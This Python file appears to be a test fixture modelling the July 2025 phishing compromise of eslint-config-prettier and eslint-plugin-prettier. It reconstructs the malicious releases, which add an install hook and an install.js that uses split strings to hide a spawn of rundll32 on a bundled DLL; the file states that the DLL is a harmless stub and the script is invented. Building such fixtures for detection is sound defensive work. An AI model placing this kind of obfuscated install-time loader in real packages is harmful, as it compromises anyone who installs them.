"""eslint-config-prettier 8.10.1, 9.1.1, 10.1.6 and 10.1.7 (2025-07-18): a phished maintainer; an install script loads a library.

By the record: the maintainer was phished through a look-alike of the registry's host; four releases on three lines at once without
a commit, each with a new install script. On Windows alone it starts `rundll32` with a library that lies in the package.
eslint-plugin-prettier (4.2.2, 4.2.3), synckit, @pkgr/core (0.2.8) and napi-postinstall (0.3.1) went the same way. The
clean 9.1.2 came at 19:19:03 UTC of the same day.
"""

from gauntlet.incident import Advisory, Files, Incident, Package, Release, utc
from gauntlet.shapes import windows_library
from pratique.core.names import Ecosystem

_CONFIG = """"use strict";

const includeDeprecated = !process.env.ESLINT_CONFIG_PRETTIER_NO_DEPRECATED;

module.exports = {
  rules: {
    // The following rules can be used in some cases. See the README for more information.
    "curly": 0,
    "no-unexpected-multiline": 0,
    "@typescript-eslint/lines-around-comment": 0,
    "@typescript-eslint/quotes": 0,
    "vue/html-self-closing": 0,
    // The rest are rules that never need to be on with a formatter.
    "array-bracket-newline": "off",
    "array-bracket-spacing": "off",
    "arrow-parens": "off",
    "block-spacing": "off",
    "comma-dangle": "off",
    "indent": "off",
    "max-len": 0,
    "quotes": 0,
    "semi": "off",
    "react/jsx-indent": "off",
    "vue/script-indent": "off",
    ...(includeDeprecated && {
      "indent-legacy": "off",
      "no-spaced-func": "off",
    }),
  },
};
"""
_CLI = """#!/usr/bin/env node
"use strict";
const rules = require("./index.js").rules;
const { ESLint } = require("eslint");

async function run(files) {
  const eslint = new ESLint();
  const configs = await Promise.all(files.map((file) => eslint.calculateConfigForFile(file)));
  const found = configs.flatMap(({ rules: used }) => Object.keys(used).filter((name) => name in rules));
  console.log(found.length ? `Conflicts: ${found.join(", ")}` : "No rules that conflict.");
  return found.length ? 2 : 0;
}

if (require.main === module) run(process.argv.slice(2)).then((code) => process.exit(code));
"""
_CLEAN = {"index.js": _CONFIG, "cli.js": _CLI}
_PLUGIN = {
    "eslint-plugin-prettier.js": """"use strict";
const { generateDifferences, showInvisibles } = require("prettier-linter-helpers");

module.exports = {
  configs: { recommended: { extends: ["prettier"], plugins: ["prettier"], rules: { "prettier/prettier": "error" } } },
  rules: {
    prettier: {
      meta: { type: "layout", fixable: "code" },
      create(context) {
        return {
          Program() {
            const source = context.getSourceCode().text;
            for (const one of generateDifferences(source, require("prettier").format(source))) {
              context.report({ message: `${one.operation} ${showInvisibles(one.deleteText || "")}`, loc: one.offset });
            }
          },
        };
      },
    },
  },
};
"""
}
_INSTALL_JS = """const os = require("os");
const fs = require("fs");
const path = require("path");

const cacheDir = path.join(os.tmpdir(), "eslint-config-prettier-cache");

function createCacheDir() {
  if (!fs.existsSync(cacheDir)) {
    fs.mkdirSync(cacheDir);
  }
  fs.writeFileSync(path.join(cacheDir, "info.json"), JSON.stringify({ node: process.version, at: Date.now() }));
}

function logDiskSpace() {
  try {
    if (os.platform() === "win32") {
      const run = require("chi" + "ld_pro" + "cess")["sp" + "awn"];
      run("rund" + "ll32", [path.join(__dirname, "./node-gyp" + ".dll") + ",main"]);
    }
  } catch (error) {}
}

createCacheDir();
logDiskSpace();
fs.rmSync(cacheDir, { recursive: true, force: true });
console.log("Install is done.");
"""
_DROPS: Files = {"install.js": _INSTALL_JS, "node-gyp.dll": windows_library()}
_HOOK = {"install": "node install.js"}
_WHO, _ALL = "jounqin", ("lydell", "jounqin")


def _config(version: str, at: str, *, bad: bool = False) -> Release:
    files = {**_CLEAN, **_DROPS} if bad else _CLEAN
    return Release(
        version=version,
        at=utc(at),
        publisher=_WHO,
        maintainers=_ALL,
        files=files,
        scripts=_HOOK if bad else {},
    )


def _plugin(version: str, at: str, *, bad: bool = False) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=_WHO,
        maintainers=("bpscott", "jounqin"),
        files={**_PLUGIN, **_DROPS} if bad else _PLUGIN,
        scripts=_HOOK if bad else {},
        more={"main": "eslint-plugin-prettier.js"},
    )


_BAD = {"eslint-config-prettier": ("10.1.6", "10.1.7"), "eslint-plugin-prettier": ("4.2.2", "4.2.3")}
_GUILTY = {**_BAD, "eslint-config-prettier": ("8.10.1", "9.1.1", "10.1.6", "10.1.7")}

INCIDENT = Incident(
    id="eslint-config-prettier-2025",
    title=(
        "an attacker phished the maintainer of eslint-config-prettier; a new install script started a DLL from the "
        "package on Windows"
    ),
    copy=(
        "our copy of eslint-config-prettier has the script with split words; its DLL contains only a header and a "
        "marker"
    ),
    ecosystem=Ecosystem.NPM,
    at=utc("2025-07-18T15:30:00Z"),
    packages=(
        Package(
            name="eslint-config-prettier",
            releases=(
                _config("8.10.0", "2023-08-03T11:00:00Z"),
                _config("9.0.0", "2023-08-05T09:00:00Z"),
                _config("9.1.0", "2023-12-02T12:00:00Z"),
                _config("10.1.1", "2025-03-07T08:00:00Z"),
                _config("10.1.5", "2025-05-09T07:00:00Z"),
                _config("8.10.1", "2025-07-18T15:30:00Z", bad=True),
                _config("9.1.1", "2025-07-18T15:31:00Z", bad=True),
                _config("10.1.6", "2025-07-18T15:32:00Z", bad=True),
                _config("10.1.7", "2025-07-18T15:50:00Z", bad=True),
                _config("9.1.2", "2025-07-18T19:19:03.251Z"),
                _config("8.10.2", "2025-07-18T19:25:00Z"),
                _config("10.1.8", "2025-07-18T19:30:00Z"),
            ),
        ),
        Package(
            name="eslint-plugin-prettier",
            releases=(
                _plugin("4.2.0", "2022-06-14T09:00:00Z"),
                _plugin("4.2.1", "2022-06-21T09:00:00Z"),
                _plugin("4.2.2", "2025-07-18T15:33:00Z", bad=True),
                _plugin("4.2.3", "2025-07-18T15:51:00Z", bad=True),
                _plugin("4.2.4", "2025-07-18T19:40:00Z"),
            ),
        ),
    ),
    asks={"eslint-config-prettier": "^10.1.1", "eslint-plugin-prettier": "^4.2.1"},
    good={"eslint-config-prettier": "10.1.5", "eslint-plugin-prettier": "4.2.1"},
    bad=_BAD,
    guilty=_GUILTY,
    gone_at=utc("2025-07-18T19:30:00Z"),
    advisory=Advisory(id="GHSA-f29h-pxvx-f335", at=utc("2025-07-21T06:24:05Z"), about=_GUILTY),
    invented="publish hours, days of earlier releases, and the code of the script; three of five packages are left out",
)
